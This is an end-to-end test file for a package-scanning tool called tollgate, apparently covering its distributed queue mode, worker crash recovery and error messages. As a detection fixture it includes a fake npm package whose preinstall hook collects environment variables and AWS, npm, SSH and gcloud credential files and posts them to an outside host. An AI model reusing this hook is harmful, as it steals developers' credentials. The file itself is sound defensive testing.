// The distributed mode end to end: real Redis, real PostgreSQL (throwaway servers), the loopback
// fake feed + registry, `tollgate watch --queue` and `tollgate worker` as real processes (built
// CLI in dist/) where a test kills them, in-process otherwise.
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import pg from 'pg';
import { Queue } from 'bullmq';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { benignFiles, startFeed, type FakeFeed } from './helpers/feed.js';
import { runCli } from './helpers/run-cli.js';
import { servicesSkipReason, startPostgres, startRedis, type Service } from './helpers/services.js';
import { DEFAULT_QUEUE_NAME, jobIdFor } from '../src/feed/bullmq-queue.js';
import type { WatchResult } from '../src/feed/types.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const bin = path.join(root, 'dist', 'src', 'cli', 'bin.js');

/** BullMQ 6 loads its Redis client (ioredis) lazily; without it nothing here can run. */
function ioredisMissing(): string | undefined {
  try {
    createRequire(createRequire(import.meta.url).resolve('bullmq'))('ioredis');
    return undefined;
  } catch {
    return "the ioredis package (BullMQ's Redis client) is not installed";
  }
}
const skip = process.env.CI ? undefined : (servicesSkipReason('redis', 'postgres') ?? ioredisMissing() ?? (fs.existsSync(bin) ? undefined : `${bin} is not built (npx tsc -p tsconfig.json)`));
if (skip) console.warn(`feed-distributed tests skipped: ${skip}`);

/**
 * Our own inert malicious fixture (source text only, never run): an install hook that gathers
 * environment variables and cloud/npm credential files and posts them to a remote host.
 */
function exfiltratorFiles(name: string, version: string): Record<string, string> {
  return {
    'package.json': JSON.stringify({ name, version, main: 'lib/index.js', scripts: { preinstall: 'node scripts/telemetry.js' } }, null, 2),
    'lib/index.js': "exports.format = (n) => Number(n).toFixed(2);\n",
    'scripts/telemetry.js': [
      "const fs = require('fs');",
      "const os = require('os');",
      "const https = require('https');",
      'const loot = { user: os.userInfo().username, env: process.env, files: {} };',
      "for (const f of ['.aws/credentials', '.npmrc', '.ssh/id_rsa', '.config/gcloud/credentials.db']) {",
      "  try { loot.files[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {}",
      '}',
      'const body = Buffer.from(JSON.stringify(loot)).toString("base64");',
      "const req = https.request({ host: 'metrics.cdn-telemetry-sync.top', path: '/v2/collect', method: 'POST' });",
      "req.on('error', () => {});",
      'req.end(body);',
      '',
    ].join('\n'),
  };
}

interface Proc {
  child: ChildProcess;
  stdout: () => string;
  stderr: () => string;
  exited: Promise<number | null>;
}
const procs: Proc[] = [];

/** The built CLI in its own process. The heap flag makes bin.js run in this very pid (no re-exec), so a SIGKILL hits the real worker. */
function cli(args: string[], env: NodeJS.ProcessEnv = {}): Proc {
  const child = spawn(process.execPath, ['--max-old-space-size=1024', bin, ...args], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  let err = '';
  child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr!.on('data', (d: Buffer) => (err += d.toString()));
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  const p = { child, stdout: () => out, stderr: () => err, exited };
  procs.push(p);
  return p;
}

async function until<T>(what: string, fn: () => Promise<T | undefined | false>, timeoutMs: number, diag: () => string = () => ''): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}\n${diag()}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe.skipIf(!!skip)('distributed mode: watch --queue + workers, Redis + PostgreSQL', () => {
  let redis: Service;
  let postgres: Service;
  let admin: pg.Client;
  let tmp: string;
  let feed: FakeFeed;
  let dbCounter = 0;

  beforeAll(async () => {
    [redis, postgres] = await Promise.all([startRedis(), startPostgres()]);
    admin = new pg.Client(postgres.url);
    admin.on('error', () => undefined);
    await admin.connect();
  });
  afterAll(async () => {
    await admin?.end().catch(() => undefined);
    await Promise.all([redis?.stop(), postgres?.stop()]);
  });
  afterEach(async () => {
    for (const p of procs.splice(0)) {
      if (p.child.exitCode === null && p.child.signalCode === null) p.child.kill('SIGKILL');
      await p.exited;
    }
    for (const c of clients.splice(0)) await c.end().catch(() => undefined);
    await feed?.close();
    if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
  });

  /** A fresh database and Redis db index per test: nothing leaks between tests. */
  const clients: pg.Client[] = [];
  async function fresh(feedOptions: Parameters<typeof startFeed>[0] = {}): Promise<{ store: string; queue: string; env: NodeJS.ProcessEnv; db: pg.Client }> {
    dbCounter++;
    await admin.query(`CREATE DATABASE t${dbCounter}`);
    const store = postgres.url.replace(/\/postgres$/, `/t${dbCounter}`);
    const db = new pg.Client(store);
    db.on('error', () => undefined); // the server going away at teardown is not a test failure
    await db.connect();
    clients.push(db);
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tollgate-dist-test-'));
    feed = await startFeed(feedOptions);
    const env = { TOLLGATE_CACHE_DIR: path.join(tmp, 'cache'), TOLLGATE_DATA_DIR: path.join(tmp, 'data'), TOLLGATE_WORKER_LOCK_MS: '2000', TOLLGATE_WATCH_BACKOFF_MS: '20', TOLLGATE_WATCH_TIMEOUT_MS: '5000' };
    return { store, queue: `${redis.url}/${dbCounter % 16}`, env, db };
  }

  const watchArgs = (queue: string, cursorStore: string): string[] => ['watch', '--once', '--since', '0', '--changes-url', feed.changesUrl, '--registry', feed.url, '--queue', queue, '--store', cursorStore];
  const workerArgs = (queue: string, store: string, ...extra: string[]): string[] => ['worker', '--queue', queue, '--store', store, '--registry', feed.url, '--json', ...extra];

  async function rows(db: pg.Client): Promise<{ name: string; version: string; verdict: string; n: number }[]> {
    const r = await db.query<{ name: string; version: string; verdict: string; n: string }>('SELECT name, version, min(verdict) AS verdict, count(*) AS n FROM tollgate_results GROUP BY name, version ORDER BY name, version').catch(() => ({ rows: [] }));
    return r.rows.map((x) => ({ ...x, n: Number(x.n) }));
  }
  const expectExactlyOnce = (got: { name: string; version: string; n: number }[], published: string[]) => {
    expect(got.map((r) => `${r.name}@${r.version}`).sort()).toEqual([...published].sort());
    expect(got.filter((r) => r.n !== 1)).toEqual([]);
  };
  const jsonLines = (out: string): WatchResult[] => out.split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as WatchResult);

  async function withQueue<T>(url: string, fn: (q: Queue) => Promise<T>): Promise<T> {
    const u = new URL(url);
    const q = new Queue(DEFAULT_QUEUE_NAME, { connection: { host: u.hostname, port: Number(u.port), db: Number(u.pathname.slice(1) || 0), maxRetriesPerRequest: null } });
    try {
      return await fn(q);
    } finally {
      await q.close();
    }
  }

  test('watch enqueues, 2 workers scan: every version stored and reported once; the malicious one flagged with an OSV record', async () => {
    const { store, queue, env, db } = await fresh();
    const published: string[] = [];
    for (let i = 0; i < 10; i++) {
      await feed.publish({ name: `util-${i}`, version: '1.0.0', files: benignFiles(`util-${i}`, '1.0.0') });
      published.push(`util-${i}@1.0.0`);
    }
    await feed.publish({ name: 'util-3', version: '1.0.1', files: benignFiles('util-3', '1.0.1') });
    published.push('util-3@1.0.1');
    await feed.publish({ name: '@acme/number-format', version: '2.1.0', files: exfiltratorFiles('@acme/number-format', '2.1.0') });
    published.push('@acme/number-format@2.1.0');

    const osvDir = path.join(tmp, 'osv');
    const workers = [cli(workerArgs(queue, store, '--osv-dir', osvDir), env), cli(workerArgs(queue, store, '--osv-dir', osvDir), env)];
    // The watcher's cursor in PostgreSQL, next to the results.
    const watch = await runCli(watchArgs(queue, store));
    expect(watch.code, watch.stderr).toBe(0);
    await until('every version stored', async () => (await rows(db)).length >= published.length, 60_000, () => workers.map((w) => w.stderr()).join('\n'));

    expectExactlyOnce(await rows(db), published);
    const mal = (await rows(db)).find((r) => r.name === '@acme/number-format');
    expect(mal?.verdict).toBe('malicious');
    expect((await rows(db)).filter((r) => r.verdict !== 'clean').map((r) => r.name)).toEqual(['@acme/number-format']);

    // Re-running the watcher from the start enqueues nothing new (job ids are the versions).
    const again = await runCli(watchArgs(queue, store));
    expect(again.code).toBe(0);
    expect(again.stderr).toMatch(/queued 0 new version/);

    for (const w of workers) w.child.kill('SIGTERM');
    expect(await Promise.all(workers.map((w) => w.exited))).toEqual([0, 0]);
    // Each version on exactly one worker's stdout, once.
    const reported = workers.flatMap((w) => jsonLines(w.stdout()));
    expect(reported.map((r) => `${r.name}@${r.version}`).sort()).toEqual([...published].sort());
    expect(workers.every((w) => jsonLines(w.stdout()).length > 0), 'both workers took jobs').toBe(true);
    expectExactlyOnce(await rows(db), published);

    const osvFile = path.join(osvDir, 'osv', 'malicious', 'npm', '@acme', 'number-format');
    const records = fs.readdirSync(osvFile);
    expect(records).toHaveLength(1);
    const record = JSON.parse(fs.readFileSync(path.join(osvFile, records[0]!), 'utf8')) as { id: string; affected: { package: { name: string; ecosystem: string }; versions: string[] }[] };
    expect(record.id).toMatch(/^MAL-0000-tollgate-[0-9a-f]{16}$/);
    expect(record.affected[0]).toMatchObject({ package: { ecosystem: 'npm', name: '@acme/number-format' }, versions: ['2.1.0'] });

    // `results` reads the same PostgreSQL store.
    const res = await runCli(['results', '--store', store, '--verdict', 'malicious', '--json']);
    expect(res.code, res.stderr).toBe(0);
    expect((JSON.parse(res.stdout) as { results: WatchResult[] }).results.map((r) => `${r.name}@${r.version}`)).toEqual(['@acme/number-format@2.1.0']);
  });

  test('a worker SIGKILLed mid-scan, then restarted: 0 lost, 0 duplicated, its jobs taken over after the lock', async () => {
    const { store, queue, env, db } = await fresh();
    const published: string[] = [];
    for (let i = 0; i < 8; i++) {
      await feed.publish({ name: `slow-${i}`, version: '1.0.0', files: benignFiles(`slow-${i}`, '1.0.0') });
      published.push(`slow-${i}@1.0.0`);
    }
    // Every tarball takes 1.5 s: a worker is always in the middle of a scan.
    feed.fail({ route: 'tarball', fault: { delayMs: 1500 }, times: Infinity });
    const watch = await runCli(watchArgs(queue, path.join(tmp, 'cursor.sqlite')));
    expect(watch.code, watch.stderr).toBe(0);

    const first = cli(workerArgs(queue, store, '--concurrency', '2'), env);
    // Kill it while it holds jobs: after its first stored result, with more claimed.
    await until('a first result', async () => (await rows(db)).length >= 1, 30_000, first.stderr);
    const active = await withQueue(queue, (q) => q.getJobCountByTypes('active'));
    expect(active).toBeGreaterThan(0);
    first.child.kill('SIGKILL');
    expect(await first.exited).toBeNull();

    const second = cli(workerArgs(queue, store, '--concurrency', '2'), env);
    await until('every version stored', async () => (await rows(db)).length >= published.length, 60_000, second.stderr);
    await until('the queue drained', () => withQueue(queue, async (q) => (await q.getJobCountByTypes('completed')) === published.length), 20_000);
    expectExactlyOnce(await rows(db), published);

    await withQueue(queue, async (q) => {
      const counts = await q.getJobCounts('completed', 'failed', 'waiting', 'active', 'delayed');
      expect(counts).toEqual({ completed: published.length, failed: 0, waiting: 0, active: 0, delayed: 0 });
      const jobs = await q.getJobs(['completed']);
      // The jobs the dead worker held were started twice (stalled, then taken over), not lost.
      const restarted = jobs.filter((j) => (j.attemptsStarted ?? 0) > 1 || (j.stalledCounter ?? 0) > 0);
      expect(restarted.length).toBeGreaterThan(0);
      expect(jobs.map((j) => `${j.data.name}@${j.data.version}`).sort()).toEqual([...published].sort());
      expect(jobs.filter((j) => j.id !== jobIdFor(j.data))).toEqual([]);
    });
    // Reported once: the killed worker's lines plus the second's cover each version once.
    const reported = [...jsonLines(first.stdout()), ...jsonLines(second.stdout())].map((r) => `${r.name}@${r.version}`);
    expect(new Set(reported).size).toBe(reported.length);
    second.child.kill('SIGTERM');
    expect(await second.exited).toBe(0);
  });

  test('the watcher SIGKILLed mid-run, then restarted: no version lost or queued twice', async () => {
    const { store, queue, env, db } = await fresh();
    const published: string[] = [];
    const publish = async (from: number, to: number) => {
      for (let i = from; i < to; i++) {
        await feed.publish({ name: `pkg-${i}`, version: '1.0.0', files: benignFiles(`pkg-${i}`, '1.0.0') });
        published.push(`pkg-${i}@1.0.0`);
      }
    };
    const queued = () => withQueue(queue, (q) => q.getJobs(['waiting'])).then((jobs) => jobs.map((j) => `${j.data.name}@${j.data.version}`));
    // Slow packuments: a poll takes a while, and the kill lands inside one.
    feed.fail({ route: 'packument', fault: { delayMs: 300 }, times: Infinity });
    const cursor = path.join(tmp, 'cursor.sqlite');
    const base = ['watch', '--changes-url', feed.changesUrl, '--registry', feed.url, '--queue', queue, '--store', cursor];

    // A live watcher follows the feed while versions are published...
    await publish(0, 10);
    const w1 = cli([...base, '--since', '0', '--poll-interval', '0.1'], env);
    await until('the first versions queued', async () => (await queued()).length >= 10, 30_000, w1.stderr);
    await publish(10, 20);
    // ...and is killed in the middle of reading them.
    await until('a poll of the new versions under way', async () => feed.counters.packument > 10, 30_000, w1.stderr);
    w1.child.kill('SIGKILL');
    expect(await w1.exited).toBeNull();
    const before = await queued();
    expect(before.length).toBeLessThan(20);
    // More are published while it is down.
    await publish(20, 30);

    // Restarted without --since: it resumes from its stored cursor (re-reading its window).
    const w2 = cli([...base, '--once'], env);
    expect(await w2.exited, w2.stderr()).toBe(0);
    const after = await queued();
    expect([...after].sort()).toEqual([...published].sort()); // all there, none twice

    const worker = cli(workerArgs(queue, store, '--concurrency', '4'), env);
    await until('every version stored', async () => (await rows(db)).length >= published.length, 60_000, worker.stderr);
    expectExactlyOnce(await rows(db), published);
    worker.child.kill('SIGTERM');
    expect(await worker.exited).toBe(0);
  });

  test('Redis or PostgreSQL unreachable: a clear error naming it, exit 2, nothing stored as clean', async () => {
    const { store, queue, db } = await fresh();
    await feed.publish({ name: 'lonely', version: '1.0.0', files: benignFiles('lonely', '1.0.0') });
    const deadRedis = 'redis://127.0.0.1:1';
    const deadPg = 'postgres://tollgate:hunter2@127.0.0.1:1/results';

    const noRedis = await runCli(workerArgs(deadRedis, store));
    expect(noRedis.code).toBe(2);
    expect(noRedis.stderr).toMatch(/Redis queue redis:\/\/127\.0\.0\.1:1 is not reachable/);

    const noPg = await runCli(workerArgs(queue, deadPg));
    expect(noPg.code).toBe(2);
    expect(noPg.stderr).toContain('PostgreSQL store postgres://tollgate:***@127.0.0.1:1/results');
    expect(noPg.stderr).not.toContain('hunter2');

    const watchNoRedis = await runCli(watchArgs(deadRedis, store));
    expect(watchNoRedis.code).toBe(2);
    expect(watchNoRedis.stderr).toMatch(/Redis queue .* is not reachable/);
    const watchNoPg = await runCli(watchArgs(queue, deadPg));
    expect(watchNoPg.code).toBe(2);
    expect(watchNoPg.stderr).toMatch(/PostgreSQL store postgres:\/\/tollgate:\*\*\*@127\.0\.0\.1:1\/results: .*is PostgreSQL running/);

    const results = await runCli(['results', '--store', deadPg]);
    expect(results.code).toBe(2);
    expect(results.stderr).toContain('postgres://tollgate:***@127.0.0.1:1/results');

    // Nothing was scanned, so nothing can have been called clean.
    expect(await rows(db)).toEqual([]);
    const usage = await runCli(['worker', '--queue', 'http://x', '--store', store]);
    expect(usage.code).toBe(2);
    expect(usage.stderr).toMatch(/--queue must be a redis/);
  }, 90_000);
});

describe('tollgate worker: usage', () => {
  test('--help teaches the distributed mode; bad options exit 2 naming the option', async () => {
    const help = await runCli(['worker', '--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toMatch(/--queue <url>.*required/);
    expect(help.stdout).toMatch(/tollgate watch {2}--queue/);
    const cases: [string[], RegExp][] = [
      [['worker', '--store', 'postgres://h/db'], /--queue redis:\/\/\.\.\. is required/],
      [['worker', '--queue', 'redis://h'], /--store postgres:\/\/\.\.\. is required/],
      [['worker', '--queue', 'redis://h', '--store', './watch.sqlite'], /--store must be a postgres:\/\/ URL/],
      [['worker', '--queue', 'redis://h', '--store', 'postgres://h/db', '--concurrency', '0'], /--concurrency must be a whole number/],
      [['worker', '--queue', 'redis://h', '--store', 'postgres://h/db', '--webhook', 'file:///etc/passwd'], /--webhook must be an http\(s\) URL/],
      [['worker', '--queue', 'redis://h', '--store', 'postgres://h/db', '--bogus'], /unknown option --bogus for `tollgate worker`/],
      [['watch', '--queue', 'redis://h', '--json'], /with --queue the workers scan and report/],
      [['watch', '--queue', 'mysql://h', '--once', '--quiet'], /--queue must be a redis/],
    ];
    for (const [argv, message] of cases) {
      const r = await runCli(argv);
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.stderr, argv.join(' ')).toMatch(message);
    }
  });
});
